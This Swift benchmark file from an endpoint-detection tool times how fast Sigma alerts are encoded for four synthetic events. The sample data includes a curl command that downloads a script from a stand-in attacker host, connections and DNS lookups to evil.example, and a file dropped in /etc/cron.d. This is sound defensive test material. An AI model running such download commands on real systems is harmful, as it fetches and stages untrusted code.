import EDRCore
import EDRSigma
import EDRDetect
#if canImport(Glibc)
import Glibc
#endif

/// `edr-bench alerts`: CPU per ECS alert line for Sigma alerts on events of the shapes the
/// normalizer produces (an exec with its parent, an outbound connection, a DNS answer, a file
/// creation). Encoding only: the write to the sink is not included.
public enum AlertBenchmark {
    public static let context = AlertContext.local(hostNameOverride: "bench-host", hostID: "0123456789abcdef0123456789abcdef")

    /// The four event shapes (name = category), as the normalizer produces them.
    public static func samples() -> [(String, Event)] {
        let base: [(String, FieldValue)] = [
            ("UtcTime", "2027-01-15 08:00:00.500"), ("ProcessGuid", "{01234567-89ab-cdef-0123-456789abcdef}"), ("ProcessId", 4242),
            ("Image", "/usr/bin/curl"), ("CommandLine", "curl -sSL -o /tmp/x.sh https://evil.example/p/x.sh"), ("CurrentDirectory", "/home/user"),
            ("User", "user"), ("LogonId", 1000), ("ParentProcessGuid", "{01234567-89ab-cdef-0123-456789abcdee}"), ("ParentProcessId", 4000),
            ("ParentImage", "/usr/bin/bash"), ("ParentCommandLine", "bash")
        ]
        return [
            ("process_creation", Event(logsource: LogSource(product: "linux", category: "process_creation"), timestamp: 1_800_000_000.5, fields: base)),
            (
                "network_connection",
                Event(
                    logsource: LogSource(product: "linux", category: "network_connection"), timestamp: 1_800_000_000.5,
                    fields: Array(base.prefix(7)) + [
                        ("Protocol", "tcp"), ("Initiated", .bool(true)), ("SourceIsIpv6", .bool(false)), ("SourceIp", "10.0.0.2"), ("SourcePort", 50123),
                        ("DestinationIsIpv6", .bool(false)), ("DestinationIp", "203.0.113.9"), ("DestinationPort", 443),
                        ("DestinationHostname", "evil.example"), ("Syscall", "connect"), ("Result", "success")
                    ])
            ),
            (
                "dns_query",
                Event(
                    logsource: LogSource(product: "linux", category: "dns_query"), timestamp: 1_800_000_000.5,
                    fields: Array(base.prefix(7)) + [
                        ("QueryName", "evil.example"), ("QueryType", "A"), ("QueryStatus", "0"), ("QueryStatusName", "NOERROR"),
                        ("QueryResults", "type:  5 cdn.evil.example;203.0.113.9;"), ("DnsServer", "127.0.0.53"), ("Protocol", "udp")
                    ])
            ),
            (
                "file_event",
                Event(
                    logsource: LogSource(product: "linux", category: "file_event"), timestamp: 1_800_000_000.5,
                    fields: Array(base.prefix(7)) + [
                        ("TargetFilename", "/etc/cron.d/evil"), ("CreationUtcTime", "2027-01-15 08:00:00.500")
                    ])
            )
        ]
    }

    /// A Sigma rule of category `c` with the metadata an alert carries.
    public static func rule(_ c: String) -> SigmaRuleInfo {
        SigmaRuleInfo(
            id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Bench rule", description: "A rule that fires",
            level: .high, author: "Alice (Example Org), Bob", tags: ["attack.execution", "attack.t1059.004"],
            references: ["https://attack.mitre.org/techniques/T1059/004/"],
            logsource: LogSource(product: "linux", category: c), path: "bench.yml")
    }

    /// The exec shape with its rule and context (package-benchmark's EDRMicro).
    public static func processCreationSample() -> (event: Event, rule: SigmaRuleInfo, context: AlertContext) {
        (samples()[0].1, rule("process_creation"), context)
    }

    public static func run(alerts: Int) -> String {
        let shapes = samples()
        var lines = ["alerts: \(alerts) Sigma alert lines per event shape, encoding only (AlertEncoder.sigma)"]
        var total = 0.0
        var bytes = 0
        for (name, event) in shapes {
            let r = rule(name)
            for i in 0..<min(1000, alerts) { bytes &+= AlertEncoder.sigma(event: event, rule: r, sequence: UInt64(i), context: context).count }
            let c0 = PipelineBenchmark.threadCPUSeconds()
            for i in 0..<alerts { bytes &+= AlertEncoder.sigma(event: event, rule: r, sequence: UInt64(i), context: context).count }
            let cpu = PipelineBenchmark.threadCPUSeconds() - c0
            total += cpu
            let size = AlertEncoder.sigma(event: event, rule: r, sequence: 1, context: context).count
            lines.append("  \(name): \(PipelineBenchmark.fmt(cpu / Double(alerts) * 1e6)) µs per alert, \(size) bytes per line")
        }
        lines.append("  mean: \(PipelineBenchmark.fmt(total / Double(alerts * shapes.count) * 1e6)) µs per alert (\(bytes / 1_048_576) MiB written)")
        return lines.joined(separator: "\n")
    }
}
